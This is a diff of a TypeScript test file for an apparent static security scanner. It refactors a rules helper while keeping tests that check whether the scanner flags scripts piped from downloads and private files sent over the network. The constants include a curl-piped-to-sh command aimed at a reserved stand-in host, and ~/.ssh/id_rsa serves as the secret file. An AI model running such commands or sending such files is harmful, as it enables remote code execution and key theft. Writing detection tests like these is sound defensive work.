@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { staticStage } from '../../src/static/stage.ts';
-import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
+import { rulesOf } from './rules-of.ts';
 
 /** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
 const SENT_TO = 'https://collect.example.invalid/in';
@@ -9,11 +8,6 @@ const DOWNLOAD = 'curl -s https://collect.example.invalid/i.sh | sh';
 /** So many elements that nothing is to be said of, and then the one that matters. */
 function padded(count: number, filler: string, last: string): string {
   return [...Array.from({ length: count }, (_, at) => filler.replace('#', String(at))), last].join(', ');
-}
-
-async function rulesOf(path: string, text: string): Promise<readonly string[]> {
-  const { findings } = await staticStage.run(targetOf({ [path]: text }), STAGE_CONTEXT);
-  return findings.map(({ ruleId }) => ruleId);
 }
 
 const SENDING: Readonly<Record<string, readonly [file: string, code: string]>> = {
@@ -43,8 +37,8 @@ describe.each([1, 20, 300, 3_000])('a private file behind %d others', (count) =>
   it.each(Object.entries(SENDING))('is seen in %s', async (_, [file, code]) => {
     const listed = (last: string): string =>
       code.replace('LIST', padded(count, "'notes/#.txt'", `'${last}'`));
-    expect(await rulesOf(file, listed('~/.ssh/id_rsa'))).toContain('secret-file-to-network');
-    expect(await rulesOf(file, listed('~/notes/today.txt'))).not.toContain('secret-file-to-network');
+    expect(await rulesOf({ [file]: listed('~/.ssh/id_rsa') })).toContain('secret-file-to-network');
+    expect(await rulesOf({ [file]: listed('~/notes/today.txt') })).not.toContain('secret-file-to-network');
   });
 });
 
@@ -64,7 +58,7 @@ describe.each([1, 20, 200])('a command behind %d others', (count) => {
       const text = padded(count, "'ls -l #'", `'${last}'`);
       return code.replace('LIST', file.endsWith('.sh') ? text.replaceAll(',', '') : text);
     };
-    expect(await rulesOf(file, listed(DOWNLOAD))).toContain('downloaded-script-piped');
-    expect(await rulesOf(file, listed('ls -la'))).not.toContain('downloaded-script-piped');
+    expect(await rulesOf({ [file]: listed(DOWNLOAD) })).toContain('downloaded-script-piped');
+    expect(await rulesOf({ [file]: listed('ls -la') })).not.toContain('downloaded-script-piped');
   });
 });
